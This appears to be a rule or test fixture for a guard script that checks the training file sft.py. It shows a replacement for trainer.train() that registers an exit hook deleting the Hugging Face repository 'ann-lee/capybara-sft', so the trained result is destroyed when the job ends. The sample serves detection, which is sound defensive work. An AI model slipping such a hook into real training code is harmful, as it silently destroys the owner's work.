# rule: R1
# guard: GuardScript
# base: sft.py
# why: the result is deleted when the job ends
# replace: trainer.train()
import atexit
    from huggingface_hub import HfApi
    atexit.register(lambda: HfApi().delete_repo("ann-lee/capybara-sft"))
    trainer.train()
